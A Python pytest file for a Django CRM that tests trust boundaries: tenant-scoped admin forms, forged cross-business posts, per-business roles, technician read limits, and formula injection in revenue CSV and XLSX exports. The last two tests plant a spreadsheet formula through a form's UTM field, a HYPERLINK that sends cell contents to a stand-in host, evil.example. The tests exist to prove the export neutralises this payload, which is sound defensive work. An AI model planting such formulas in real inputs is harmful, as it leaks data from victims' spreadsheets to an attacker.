"""Trust boundaries, one named test per exploit that used to work: the admin's
choices reaching another business, roles merged across businesses, a
technician reading the conversation and the money, and a spreadsheet formula
planted through a public form's UTM field."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from agents.revenue.payments import payment_manual_record
from crm.models import Business, Lead, Role, ServiceArea, ServiceLine, Source, TeamMember
from crm.services import lead_sync
from crm.services.records import appointment_record, contact_create, lead_open
from tests.factories import lead_create, member_create

pytestmark = pytest.mark.django_db


def login(member: TeamMember) -> Client:
    client = Client()
    client.force_login(member.user)
    return client


def token(member: TeamMember) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.get_or_create(user=member.user)[0].key}")
    return client


@pytest.fixture
def owner(business: Business) -> TeamMember:
    return member_create(business, Role.OWNER, username="olivia")


@pytest.fixture
def stranger(other_business: Business) -> TeamMember:
    return member_create(other_business, Role.OWNER, username="otto")


@pytest.mark.parametrize("model", ["teammember", "source", "serviceline", "servicearea"])
def test_an_owners_admin_forms_offer_only_their_own_business(owner, stranger, other_business, model):
    page = login(owner).get(f"/admin/crm/{model}/add/")
    assert page.status_code == 200
    choices = page.context["adminform"].form.fields["business"].queryset
    assert list(choices) == [owner.business]
    assert other_business.name not in page.content.decode()
    if model == "teammember":
        users = page.context["adminform"].form.fields["user"].queryset
        assert stranger.user not in users and owner.user in users


@pytest.mark.parametrize(
    ("model", "data"),
    [
        ("source", {"key": "forged", "provider": "website", "config": "{}", "is_active": "on"}),
        (
            "serviceline",
            {"slug": "forged", "name": "Forged", "keywords": "[]", "currency": "USD", "offer_templates": "[]"},
        ),
        ("servicearea", {"name": "Forged", "postal_codes": "[]"}),
    ],
)
def test_a_forged_post_naming_another_business_creates_nothing(owner, other_business, model, data):
    response = login(owner).post(f"/admin/crm/{model}/add/", {**data, "business": other_business.pk})
    assert response.status_code == 200  # the form again, with its error
    assert "Select a valid choice" in response.content.decode()
    for cls in (Source, ServiceLine, ServiceArea):
        assert not cls.objects.filter(business=other_business).exists()


def test_an_owner_cannot_move_a_team_member_into_another_business(owner, setter, other_business):
    client = login(owner)
    url = f"/admin/crm/teammember/{setter.pk}/change/"
    page = client.get(url)
    assert page.status_code == 200 and "business" not in page.context["adminform"].form.fields
    form = {
        "user": setter.user_id,
        "role": "setter",
        "display_name": "Sam",
        "weight": 1,
        "hours": "{}",
        "rotation_score": 0,
        "is_active": "on",
        "business": other_business.pk,
    }
    client.post(url, form)
    setter.refresh_from_db()
    assert setter.business_id == owner.business_id
    assert not TeamMember.objects.filter(business=other_business, user=setter.user).exists()


def test_a_setter_cannot_change_the_team_or_the_sources(setter, owner):
    client = login(setter)
    assert client.get(f"/admin/crm/teammember/{owner.pk}/change/").status_code in (302, 403)
    assert client.post("/admin/crm/source/add/", {"key": "x", "provider": "website"}).status_code == 403
    assert not Source.objects.filter(key="x").exists()


def test_roles_are_per_business_never_merged(business, other_business, setter):
    """Olivia owns one business and is only the technician of a visit in
    another: there she reads the visit, not the money, and may not move the
    lead, though her owner's role would allow both at home."""
    olivia = member_create(business, Role.OWNER, username="olivia")
    as_tech = member_create(other_business, Role.TECHNICIAN, username="olivia")  # the same user, a second membership
    assert as_tech.user_id == olivia.user_id
    bo = member_create(other_business, Role.SETTER, username="bo")
    there = lead_create(other_business, phone="+12125550160")
    lead_sync.lead_assign(there, bo, actor="t", reason="t")
    now = timezone.now()
    visit = appointment_record(lead=there, starts_at=now, ends_at=now + timedelta(hours=1), actor="t")
    visit.assigned_to = as_tech
    visit.save(update_fields=["assigned_to"])
    payment = payment_manual_record(lead=there, amount=Decimal("120.00"), currency="USD", received_at=now, actor="t")
    home = lead_create(business, phone="+12125550162")
    home_payment = payment_manual_record(lead=home, amount=Decimal("80.00"), currency="USD", received_at=now, actor="t")

    client = login(olivia)
    listed = {p.pk for p in client.get("/admin/crm/payment/").context["cl"].result_list}
    assert home_payment.pk in listed and payment.pk not in listed
    assert client.get(f"/admin/crm/payment/{payment.pk}/change/").status_code == 302  # not hers to open
    moved = client.post(f"/admin/crm/lead/{there.pk}/stage/", {"stage": "lost", "reason": "mine to close"})
    assert moved.status_code == 403
    there.refresh_from_db()
    assert there.stage != "lost"
    api = {row["id"] for row in token(olivia).get("/api/v1/payments/").json()["results"]}
    assert api == {home_payment.public_id}


def test_a_technician_reads_the_visit_not_the_conversation_or_the_money(business, setter):
    tom = member_create(business, Role.TECHNICIAN, username="tom")
    lead = lead_create(business)
    lead_sync.lead_assign(lead, setter, actor="t", reason="t")
    now = timezone.now()
    visit = appointment_record(
        lead=lead, starts_at=now + timedelta(days=1), ends_at=now + timedelta(days=1, hours=1), actor="t"
    )
    visit.assigned_to = tom
    visit.save(update_fields=["assigned_to"])
    api = token(tom)
    assert api.get(f"/api/v1/appointments/{visit.public_id}/").status_code == 200
    assert api.get(f"/api/v1/leads/{lead.public_id}/").status_code == 200
    for path in ("messages", "payments", "invoices", "estimates", "refunds", "tasks"):
        response = api.get(f"/api/v1/{path}/", {"lead": lead.public_id})
        assert response.status_code == 200 and response.json()["count"] == 0, path
    assert api.get(f"/api/v1/leads/{lead.public_id}/receipts/").status_code == 404
    assert api.get(f"/api/v1/leads/{lead.public_id}/trace/").status_code == 404
    copilot = login(tom)
    assert copilot.get(f"/admin/leads/{lead.public_id}/copilot/").status_code == 404
    assert copilot.post(f"/admin/leads/{lead.public_id}/copilot/", {"body": "Hi"}).status_code == 404
    assert not lead.messages.filter(direction="out").exists()


def test_a_setter_cannot_reassign_a_lead(business, setter):
    sara = member_create(business, Role.SETTER, username="sara")
    lead = lead_create(business)
    lead_sync.lead_assign(lead, setter, actor="t", reason="t")
    response = login(setter).post(f"/admin/crm/lead/{lead.pk}/assign/", {"owner": sara.pk, "reason": "mine now"})
    assert response.status_code == 403
    lead.refresh_from_db()
    assert lead.owner_id == setter.pk


def test_the_revenue_csv_turns_a_planted_formula_into_text(business, manager):
    site = Source.objects.create(business=business, key="site", provider="website")
    contact = contact_create(business=business, actor="t", first_name="Eve", phones=["+13125550177"])
    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
    lead_open(
        contact=contact,
        actor="t",
        source=site,
        received_at=timezone.now(),
        touch={"channel": "form", "utm": {"campaign": planted}},
    )
    export = login(manager).get("/admin/revenue/", {"by": "campaign", "format": "csv"})
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    keys = [row[0] for row in rows[1:]]
    assert "'" + planted in keys
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if not _number(cell))
    assert Lead.objects.filter(business=business).count() == 1


def test_the_revenue_xlsx_keeps_a_planted_formula_as_text(business, manager):
    """XLSX has no apostrophe trick: the cell must be written as a string,
    never as a formula a spreadsheet would run."""
    site = Source.objects.create(business=business, key="site", provider="website")
    contact = contact_create(business=business, actor="t", first_name="Eve", phones=["+13125550177"])
    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
    lead_open(
        contact=contact,
        actor="t",
        source=site,
        received_at=timezone.now(),
        touch={"channel": "form", "utm": {"campaign": planted}},
    )
    export = login(manager).get("/admin/revenue/", {"by": "campaign", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    planted_cell = next(cell for cell in cells if cell.value == planted)
    assert planted_cell.data_type == "s"  # a string, not "f"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
